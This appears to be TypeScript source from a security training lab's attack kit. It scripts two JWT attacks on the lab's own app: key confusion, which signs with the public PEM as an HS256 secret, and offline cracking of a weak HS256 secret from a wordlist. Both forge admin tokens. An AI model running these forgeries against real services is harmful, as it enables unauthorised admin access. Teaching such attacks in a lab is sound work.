import { crackHs256Secret, publicKeyPem, signHs256, signWithPublicKeyText } from '../../../../common/jwt-inspect';
import { keyKind } from '../../../../common/labs/jwt';
import type { ServerAttack } from '../../attack-kit';
import { restoreAccessAlgorithm, tryAdmin, useAccessAlgorithm, victimToken } from './scene';

/** Key confusion: the public key's PEM text used as an HS256 secret. */
export const keyConfusion: ServerAttack = {
  async run(run) {
    // An HMAC key has no public half to confuse: borrow an RS256 key, then go back.
    const previous = await useAccessAlgorithm(run, (alg) => alg !== 'HS256', 'RS256');
    try {
      const { header, payload } = await victimToken(run);
      const jwks = await run.browser().request('GET', `${run.ctx.origins.app}/.well-known/jwks.json`);
      const pem = await publicKeyPem({ kind: 'jwks', json: jwks.text }, header.kid);
      run.say(`Downloaded the public ${keyKind(String(header.alg))} key for kid ${String(header.kid)} from the JWKS.`);
      const forged = await signWithPublicKeyText({ ...header }, { ...payload, role: 'admin' }, pem);
      run.say('Signed role "admin" with HS256, using the public PEM text as the HMAC secret.');
      return await tryAdmin(run, forged);
    } finally {
      await restoreAccessAlgorithm(run, previous);
    }
  },
};

/** A weak HS256 secret cracked offline from one token, then used to sign an admin token. */
export const weakSecret: ServerAttack = {
  async run(run) {
    const previous = await useAccessAlgorithm(run, (alg) => alg === 'HS256', 'HS256');
    try {
      const { token, header, payload } = await victimToken(run);
      const list = await run.browser().request('GET', `${run.ctx.origins.app}/api/lab/jwt/wordlist`);
      const { words } = JSON.parse(list.text) as { words: string[] };
      run.say(`Trying ${words.length} dictionary words offline against the captured token…`);
      const secret = await crackHs256Secret(token, words, { signal: run.signal });
      if (secret === null) {
        run.say('No word matched: the secret is not in the dictionary.');
        return { succeeded: false, summary: 'Cracking failed: the secret is 256 random bits.' };
      }
      run.say(`Cracked: the secret is "${secret}". Signed role "admin" with it.`);
      return await tryAdmin(
        run,
        await signHs256(header, { ...payload, role: 'admin' }, new TextEncoder().encode(secret)),
      );
    } finally {
      await restoreAccessAlgorithm(run, previous);
    }
  },
};
